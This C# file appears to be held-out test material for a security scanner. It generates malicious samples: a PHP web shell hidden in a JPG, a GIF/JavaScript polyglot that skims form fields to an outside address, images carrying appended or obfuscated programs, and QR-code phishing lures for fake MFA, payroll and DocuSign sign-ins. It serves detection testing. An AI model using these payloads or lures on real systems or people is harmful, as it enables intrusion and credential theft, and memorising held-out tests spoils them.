using System.Text;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>A picture with code or a program in or behind it.</summary>
public sealed class PictureWithLoad : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("avatar.php.jpg", Carriers.Photograph("<?php if(isset($_REQUEST['c'])){echo '<pre>';system($_REQUEST['c']);echo '</pre>';} __halt_compiler(); ?>"u8.ToArray(), []));

        yield return ("banner.gif", Utf8("""
            GIF89a/*  */=1;
            var s=document.createElement('script');s.src='//cdn-jquery-lib.test/k.js';document.head.appendChild(s);
            document.forms[0]&&document.forms[0].addEventListener('submit',function(){new Image().src='http://192.0.2.191/c?d='+btoa([].map.call(this.elements,function(e){return e.name+'='+e.value}).join('&'))});
            """));

        yield return ("logo.png", [.. PngBuilder.Build(8, 8, 8, 0, [.. Enumerable.Range(0, 8).SelectMany(row => new byte[] { 0, 10, 20, 30, 40, 50, 60, 70, (byte)row })]), .. Carriers.Program()]);

        // A photograph as loaders fetch them: a program in base64, backwards, between marks.
        yield return ("img_20261122.jpg", Carriers.Photograph([], [.. "<<BASE64_START>>"u8, .. Encoding.ASCII.GetBytes(Backwards(Convert.ToBase64String(Carriers.Program(6000))).Replace('A', '@')), .. "<<BASE64_END>>"u8]));
    }
}

/// <summary>A code to be read with a telephone that leads to a false sign-in, in the place where a link would stand out.</summary>
public sealed class CodeForTelephone : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("MFA renewal.eml", Carriers.Letter("""
            From: "IT Helpdesk" <helpdesk@kestrel-foods-support.test>
            To: dana@kestrel-foods.example
            Subject: Action needed: your multi-factor authentication expires today
            Date: Mon, 23 Nov 2026 07:30:00 +0000
            Authentication-Results: mx.kestrel-foods.example; spf=none; dmarc=none
            """, "text/html", """
            <html><body><h3>Microsoft 365</h3><p>Your multi-factor authentication for dana@kestrel-foods.example expires today. To keep access to your mailbox, scan the QR code in the attachment with the camera of your phone and sign in.</p><p>IT Helpdesk</p></body></html>
            """, ("MFA_QR.png", "image/png", Carriers.Code("https://login-mfa-renew.test/common?u=dana@kestrel-foods.example"))));

        yield return ("Gehaltsanpassung.docx", OoxmlBuilder.Word("<w:p><w:r><w:t>Gehaltsanpassung 2027: Scannen Sie den QR-Code mit Ihrem Smartphone und melden Sie sich mit Ihrem Firmenkonto an, um das Dokument zu unterschreiben.</w:t></w:r></w:p><w:p><w:r><w:drawing/></w:r></w:p>")
            .Relationship("word/_rels/document.xml.rels", "image", "media/image1.png", isExternal: false)
            .Part("word/media/image1.png", Carriers.Code("http://203.0.113.192/hr/anmelden.php?m=albers@seitz-pumpen.example")).Build());

        yield return ("Signature request.pdf", Paper("DocuSign: scan the code with your phone\nto review and sign Agreement_11-26.", "https://sign-review.docs-share.test/d/1126?email=owen@tradewind.example"));

        // The code is drawn with letters, so that no picture is there; the address hides behind a known search engine.
        yield return ("bonus.html", Utf8(Fill("""
            <html><head><meta charset="utf-8"><title>Employee bonus</title></head><body>
            <p>Hi Ruth, your year-end bonus statement is ready. Point your phone's camera at the code below and log in with your e-mail account:</p>
            <pre style="font:10px/10px monospace;letter-spacing:0">@@1</pre><p>Human Resources - SharePoint</p></body></html>
            """, Encoding.UTF8.GetString(Carriers.Code("https://www.google.com/url?q=https://bonus-hr.docs-share.test/login&e=ruth@millbrook.example", "UTF8")))));
    }

    private static byte[] Paper(string text, string address)
    {
        var rows = Encoding.ASCII.GetString(Carriers.Code(address, "ASCII")).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        // A module is two letters wide; it becomes four pixels by four.
        byte[] pixels = [.. rows.SelectMany(row => Enumerable.Repeat(row, 4)).SelectMany(row => Enumerable.Range(0, row.Length / 2).SelectMany(at => Enumerable.Repeat(row[at * 2] == '#' ? (byte)0 : (byte)255, 4)))];
        var side = rows.Length * 4;
        return new PdfBuilder()
            .Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /Q 5 0 R >> >> >>")
            .Stream(4, "", Encoding.Latin1.GetBytes($"BT /F1 16 Tf 90 720 Td {string.Join(" 0 -22 Td ", text.Split('\n').Select(line => $"({line}) Tj"))} ET q 220 0 0 220 180 420 cm /Q Do Q"))
            .Stream(5, $"/Type /XObject /Subtype /Image /Width {pixels.Length / side} /Height {side} /ColorSpace /DeviceGray /BitsPerComponent 8", pixels)
            .Build();
    }
}
